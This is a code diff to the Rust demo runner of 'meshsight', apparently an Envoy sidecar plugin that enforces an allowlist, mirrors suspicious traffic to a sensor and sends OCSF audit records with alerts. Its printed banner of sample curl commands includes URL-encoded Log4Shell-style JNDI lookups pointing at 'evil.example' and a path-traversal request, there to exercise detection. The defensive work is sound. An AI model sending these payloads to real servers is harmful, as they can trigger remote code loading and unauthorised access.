@@ -1,7 +1,8 @@
 //! `make run`: the local sidecar demo. Starts the echo upstream, the sensor and the collector on
-//! fixed loopback ports, then Envoy with `envoy-config/envoy.yaml` (allowlist -> mirror ->
-//! audit -> router), prints the URLs and curl lines that show each filter at work, reports what
-//! reaches the sensor and the collector as it happens, and stops everything on Ctrl-C.
+//! fixed loopback ports, then Envoy with `envoy-config/envoy.yaml` (one `meshsight` plugin
+//! running allowlist, mirror and audit in one pass, then the router), prints the URLs and curl
+//! lines that show each job at work, reports what reaches the sensor and the collector as it
+//! happens (one line per audit record, alerts marked), and stops everything on Ctrl-C.
 //!
 //! Other modes serve the Docker demo (`envoy-config/docker-compose.yaml`):
 //! `--serve upstream|sensor|collector` runs one helper server alone, and `--render FILE`
@@ -236,12 +237,15 @@ fn run(options: &Options) -> Result<(), String> {
         seen_upstream = requests.len();
         let requests = sensor.requests();
         for request in requests.iter().skip(seen_sensor) {
-            println!("sensor    <- mirrored copy: {}", describe(request));
+            println!("sensor    <- mirrored copy: {}", describe_copy(request));
         }
         seen_sensor = requests.len();
         let requests = collector.requests();
         for request in requests.iter().skip(seen_collector) {
             println!("collector <- {}", describe(request));
+            for record in request.body_text().lines().filter(|l| !l.trim().is_empty()) {
+                println!("collector    record: {}", describe_record(record));
+            }
         }
         seen_collector = requests.len();
         thread::sleep(Duration::from_millis(200));
@@ -269,13 +273,62 @@ fn describe(request: &RecordedRequest) -> String {
     line
 }
 
+/// A copy the sensor received: Envoy's route mirror (`host: <authority>-shadow`) or the
+/// plugin's own HTTP call, which says why (a denied request's copy always comes this way).
+fn describe_copy(request: &RecordedRequest) -> String {
+    let mut line = format!("{} {}", request.method, request.path);
+    match request.header("x-meshsight-mirror-reason") {
+        Some(reason) => {
+            line.push_str(&format!(" (sent by the plugin, reason {reason}"));
+            if let Some(signatures) = request.header("x-meshsight-mirror-signatures") {
+                line.push_str(&format!(": {signatures}"));
+            }
+            line.push(')');
+        }
+        None => line.push_str(" (Envoy's route mirror)"),
+    }
+    line
+}
+
+/// One OCSF record in a line: status, method, path, the allowlist's disposition and rule, and
+/// the alert when a signature matched.
+fn describe_record(record: &str) -> String {
+    let Ok(r) = serde_json::from_str::<serde_json::Value>(record) else {
+        return record.chars().take(160).collect();
+    };
+    let text = |v: &serde_json::Value| match v {
+        serde_json::Value::String(s) => s.clone(),
+        serde_json::Value::Null => "-".to_string(),
+        other => other.to_string(),
+    };
+    let mut line = format!(
+        "{} {} {} disposition {}",
+        text(&r["http_response"]["code"]),
+        text(&r["http_request"]["http_method"]),
+        text(&r["http_request"]["url"]["path"]),
+        text(&r["disposition"]),
+    );
+    if let Some(rule) = r["firewall_rule"]["name"].as_str() {
+        line.push_str(&format!(" (rule {rule})"));
+    }
+    if r["is_alert"] == true {
+        let signatures = &r["unmapped"]["meshsight"]["mirror"]["signatures"];
+        line.push_str(&format!(
+            "  ALERT severity {}: {}",
+            text(&r["severity"]),
+            text(signatures)
+        ));
+    }
+    line
+}
+
 fn print_banner(options: &Options, envoy: &Envoy) {
     let base = format!("http://127.0.0.1:{}", options.listener_port);
     let admin = format!("http://127.0.0.1:{}", options.admin_port);
     println!(
         "\
 meshsight demo is up (Envoy pid {pid}, log {log})
-  sidecar listener  {base}   allowlist -> mirror -> audit -> echo upstream
+  sidecar listener  {base}   meshsight (allowlist + mirror + audit, one pass) -> echo upstream
   Envoy admin       {admin}
   echo upstream     127.0.0.1:{up}   sensor 127.0.0.1:{sensor}   collector 127.0.0.1:{collector}
 
@@ -284,14 +337,18 @@ Try (each request also yields an OCSF audit record, POSTed to the collector with
   curl -i {base}/api/items
   # allowlist: a path outside the list is refused (403)
   curl -i {base}/admin
-  # allowlist: dot-segments are resolved before matching: /api/../admin is /admin (403)
+  # allowlist: dot-segments are resolved before matching: /api/../admin is /admin (403);
+  # being a traversal attempt, it is also copied to the sensor (signature path_traversal)
   curl -i --path-as-is '{base}/api/../admin'
   # mirror: rule \"orders\" mirrors /api/orders/** to the sensor (header delivery); other
   # requests are mirrored as the policy in envoy-config/envoy.yaml says (e.g. a sampled share)
   curl -i {base}/api/orders/42
   # mirror: a Log4Shell-style payload is mirrored by signature, whatever the rules
   curl -i '{base}/api/items?q=%24%7Bjndi%3Aldap%3A%2F%2Fevil.example%2Fa%7D'
-  # the filters' counters
+  # a BLOCKED attack: the allowlist answers 403, yet the signature still sends a copy to the
+  # sensor and the collector gets an alert (is_alert, severity High, disposition Blocked)
+  curl -i '{base}/admin?q=%24%7Bjndi%3Aldap%3A%2F%2Fevil.example%2Fa%7D'
+  # the counters
   curl -s '{admin}/stats?filter=meshsight'
 
 Below: what reaches the upstream, the sensor and the collector. Ctrl-C stops everything.",
